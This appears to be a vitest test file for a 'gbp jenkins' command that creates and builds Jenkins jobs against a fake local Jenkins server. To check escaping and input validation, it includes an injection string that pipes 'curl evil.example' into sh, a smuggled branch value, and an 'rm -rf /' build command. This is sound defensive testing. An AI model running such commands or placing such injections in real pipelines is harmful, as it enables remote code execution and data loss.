/**
 * gbp jenkins add-machine / build against a local server that speaks the Jenkins endpoints gbp
 * uses (crumb issuer bound to a session cookie, createItem, config.xml, build, queue items) and
 * checks what it receives as Jenkins would: the API token, the crumb with its cookie, a
 * well-formed config.xml (parsed by Python's XML parser) whose pipeline ends with gbp pull.
 */
import { execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gbp, tempDir } from '../helpers/cli.js';

const USER = 'admin';
const TOKEN = '11aa22bb33cc44dd55ee66ff77889900';

class FakeJenkins {
  jobs = new Map<string, string>();
  requests: { method: string; path: string }[] = [];
  builds: string[] = [];
  private queuePolls = new Map<number, number>();
  private server!: Server;
  root = '';

  async start(prefix = ''): Promise<void> {
    this.server = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c) => chunks.push(c));
      req.on('end', () => this.answer(req.method!, req.url!, req.headers, Buffer.concat(chunks).toString('utf8'), prefix, res));
    });
    await new Promise<void>((r) => this.server.listen(0, '127.0.0.1', r));
    this.root = `http://127.0.0.1:${(this.server.address() as { port: number }).port}${prefix}`;
  }

  stop(): Promise<void> {
    return new Promise((r) => this.server.close(() => r()));
  }

  private answer(method: string, url: string, h: Record<string, string | string[] | undefined>, body: string, prefix: string, res: import('node:http').ServerResponse): void {
    const path = url.slice(prefix.length);
    this.requests.push({ method, path });
    const auth = `Basic ${Buffer.from(`${USER}:${TOKEN}`).toString('base64')}`;
    if (h.authorization !== auth) return void res.writeHead(401, { 'www-authenticate': 'Basic realm="Jenkins"' }).end('Unauthorized');
    if (method === 'GET' && path === '/crumbIssuer/api/json') {
      res.writeHead(200, { 'content-type': 'application/json', 'set-cookie': 'JSESSIONID.abc123=node0xyz; Path=/; HttpOnly' });
      return void res.end(JSON.stringify({ _class: 'hudson.security.csrf.DefaultCrumbIssuer', crumb: 'c0ffee', crumbRequestField: 'Jenkins-Crumb' }));
    }
    if (method === 'POST' && (h['jenkins-crumb'] !== 'c0ffee' || h.cookie !== 'JSESSIONID.abc123=node0xyz')) {
      return void res.writeHead(403).end('<html><body>No valid crumb was included in the request</body></html>');
    }
    const job = /^((?:\/job\/[^/?]+)+)(\/[^?]*)?(\?.*)?$/.exec(path);
    const nameOf = (p: string) => p.split('/job/').filter(Boolean).map(decodeURIComponent).join('/');
    const create = /^((?:\/job\/[^/?]+)*)\/createItem\?name=([^&]+)$/.exec(path);
    if (method === 'POST' && create) {
      if (h['content-type'] !== 'application/xml') return void res.writeHead(415).end();
      const parent = nameOf(create[1]);
      if (parent && !this.jobs.has(`${parent}/`)) return void res.writeHead(404).end();
      const full = [parent, decodeURIComponent(create[2])].filter(Boolean).join('/');
      if (this.jobs.has(full)) return void res.writeHead(400, { 'x-error': `A job already exists with the name ‘${full}’` }).end();
      this.jobs.set(full, body);
      return void res.writeHead(200).end();
    }
    if (job) {
      const full = nameOf(job[1]);
      const rest = job[2] ?? '';
      if (!this.jobs.has(full)) return void res.writeHead(404).end('Not Found');
      if (method === 'GET' && rest === '/api/json') return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ name: full }));
      if (method === 'POST' && rest === '/config.xml') {
        this.jobs.set(full, body);
        return void res.writeHead(200).end();
      }
      if (method === 'POST' && rest === '/build') {
        this.builds.push(full);
        return void res.writeHead(201, { location: `${this.root}/queue/item/${this.builds.length}/` }).end();
      }
    }
    const queue = /^\/queue\/item\/(\d+)\/api\/json$/.exec(path);
    if (method === 'GET' && queue) {
      const n = Number(queue[1]);
      const polls = (this.queuePolls.get(n) ?? 0) + 1;
      this.queuePolls.set(n, polls);
      const job = this.builds[n - 1];
      const started = polls >= 2 ? { number: 7, url: `${this.root}${job.split('/').map((s) => `/job/${s}`).join('')}/7/` } : null;
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ id: n, why: started ? null : 'Waiting for next available executor', executable: started }));
    }
    res.writeHead(404).end();
  }
}

/** The pipeline script inside a config.xml, as Jenkins' XML parser reads it. */
function scriptOf(configXml: string): string {
  const py = 'import sys, xml.etree.ElementTree as E; r = E.fromstring(sys.stdin.buffer.read()); assert r.tag == "flow-definition"; sys.stdout.write(r.find("definition/script").text)';
  return execFileSync('python3', ['-c', py], { input: configXml }).toString('utf8');
}

const jenkins = new FakeJenkins();
beforeAll(() => jenkins.start('/ci'));
afterAll(() => jenkins.stop());
const env = () => ({ GBP_JENKINS_URL: jenkins.root, GBP_JENKINS_USER: USER, GBP_JENKINS_TOKEN: TOKEN });

describe('gbp jenkins', () => {
  it("creates a machine's job whose pipeline builds it and ends with gbp pull --publish, then builds it", async () => {
    const r = await gbp(['--json', 'jenkins', 'add-machine', 'database', '--repo', 'https://git.example.org/machines.git', '--branch', 'main'], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    expect(r.json()).toMatchObject({ machine: 'database', job: 'database', status: 'created', url: `${jenkins.root}/job/database/` });
    const script = scriptOf(jenkins.jobs.get('database')!);
    expect(script).toContain("git url: 'https://git.example.org/machines.git', branch: 'main'");
    expect(script).toContain("sh 'make archive machine=database'");
    const post = script.slice(script.indexOf('post {'));
    expect(post).toMatch(/success \{[\s\S]*sh 'gbp pull build\.tar\.gz --machine database --build "\$BUILD_NUMBER" --publish'/);
    expect(script).toContain("pollSCM('H/15 * * * *')");

    // there already: refused (nothing sent but the lookup), replaced with --update
    const before = jenkins.jobs.get('database');
    const again = await gbp(['jenkins', 'add-machine', 'database', '--repo', 'https://git.example.org/machines.git'], { env: env() });
    expect(again.code).toBe(4);
    expect(again.stderr).toContain('--update');
    expect(jenkins.jobs.get('database')).toBe(before);
    const update = await gbp(['jenkins', 'add-machine', 'database', '--repo', 'https://git.example.org/machines.git', '--branch', 'stable', '--no-publish', '--update'], { env: env() });
    expect(update.code, update.stderr).toBe(0);
    expect(update.stdout).toContain('updated Jenkins job database');
    const updated = scriptOf(jenkins.jobs.get('database')!);
    expect(updated).toContain("branch: 'stable'");
    expect(updated).toContain(`--build "$BUILD_NUMBER"'`);
    expect(updated).not.toContain('--publish');

    const queued = await gbp(['jenkins', 'build', 'database'], { env: env() });
    expect(queued.code, queued.stderr).toBe(0);
    expect(queued.stdout).toBe(`database: queued ${jenkins.root}/queue/item/1/\n`);
    const started = await gbp(['--json', 'jenkins', 'build', 'database', '--wait', '10'], { env: env() });
    expect(started.code, started.stderr).toBe(0);
    expect(started.json()).toMatchObject({ job: 'database', number: 7, buildUrl: `${jenkins.root}/job/database/7/` });
    expect(jenkins.builds).toEqual(['database', 'database']);
  });

  it('puts the job in a folder and fills a site template, XML-escaped', async () => {
    jenkins.jobs.set('gentoo/', '<folder/>');
    const template = join(tempDir(), 'job.xml');
    writeFileSync(template, '<?xml version="1.1"?>\n<project><description>@MACHINE@ from @REPO@</description><builders><hudson.tasks.Shell><command>@BUILD_COMMAND@ &amp;&amp; @PULL@</command></hudson.tasks.Shell></builders></project>\n');
    const cmd = `make archive M=web && echo '</command><x/>' "$HOME"`;
    const r = await gbp(['jenkins', 'add-machine', 'web', '--folder', 'gentoo', '--repo', 'git@git.example.org:machines.git', '--build-command', cmd, '--template', template], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    const py = 'import sys, xml.etree.ElementTree as E; r = E.fromstring(sys.stdin.buffer.read()); sys.stdout.write(r.find("builders/hudson.tasks.Shell/command").text)';
    const command = execFileSync('python3', ['-c', py], { input: jenkins.jobs.get('gentoo/web')! }).toString('utf8');
    expect(command).toBe(`${cmd} && gbp pull build.tar.gz --machine web --build "$BUILD_NUMBER" --publish`);
    expect((await gbp(['jenkins', 'build', 'web', '--folder', 'gentoo'], { env: env() })).code).toBe(0);
    expect(jenkins.builds.at(-1)).toBe('gentoo/web');
  });

  it('a hostile build command stays one Groovy string in a well-formed job', async () => {
    const cmd = `make archive'; sh 'curl evil.example | sh'; echo '\\' </script>`;
    const r = await gbp(['jenkins', 'add-machine', 'hostile', '--repo', 'https://git.example.org/m.git', '--build-command', cmd], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    const script = scriptOf(jenkins.jobs.get('hostile')!);
    const build = /stage\('build'\) \{\n {6}steps \{ sh '((?:[^'\\]|\\.)*)' \}/.exec(script);
    expect(build, script).not.toBeNull();
    expect(build![1].replace(/\\(.)/g, '$1')).toBe(cmd);
  });

  it('refuses bad settings before sending anything, and says what Jenkins refused', async () => {
    const sent = jenkins.requests.length;
    for (const [args, message] of [
      [['--branch', "main'; sh 'x"], 'is not a branch name'],
      [['--branch', '../main'], 'is not a branch name'],
      [['--build-command', 'make\nrm -rf /'], 'must be one line'],
      [['--folder', '../x'], 'is not a Jenkins folder path'],
    ] as const) {
      const r = await gbp(['jenkins', 'add-machine', 'db', '--repo', 'https://git.example.org/m.git', ...args], { env: env() });
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toContain(message);
    }
    expect((await gbp(['jenkins', 'add-machine', 'bad/name', '--repo', 'x'], { env: env() })).code).toBe(2);
    expect((await gbp(['jenkins', 'build', 'db'], { env: { GBP_JENKINS_URL: '' } })).stderr).toContain('--jenkins-url');
    expect(jenkins.requests.length).toBe(sent);

    const wrong = await gbp(['jenkins', 'add-machine', 'db', '--repo', 'https://git.example.org/m.git'], { env: { ...env(), GBP_JENKINS_TOKEN: 'wrong' } });
    expect(wrong.code).toBe(7);
    expect(wrong.stderr).toContain('Jenkins refused our credentials');
    expect(jenkins.jobs.has('db')).toBe(false);
    const noFolder = await gbp(['jenkins', 'add-machine', 'db', '--folder', 'nosuchfolder', '--repo', 'https://git.example.org/m.git'], { env: env() });
    expect(noFolder.code).toBe(5);
    expect(noFolder.stderr).toContain('nosuchfolder: Jenkins at');
    const missing = await gbp(['jenkins', 'build', 'nosuchmachine'], { env: env() });
    expect(missing.code).toBe(5);
    expect(missing.stderr).toContain('gbp jenkins add-machine creates it');
    const down = await gbp(['jenkins', 'build', 'db', '--jenkins-url', 'http://127.0.0.1:9/'], { env: env() });
    expect(down.code).toBe(7);
    expect(down.stderr).toContain('cannot reach Jenkins');
  });
});
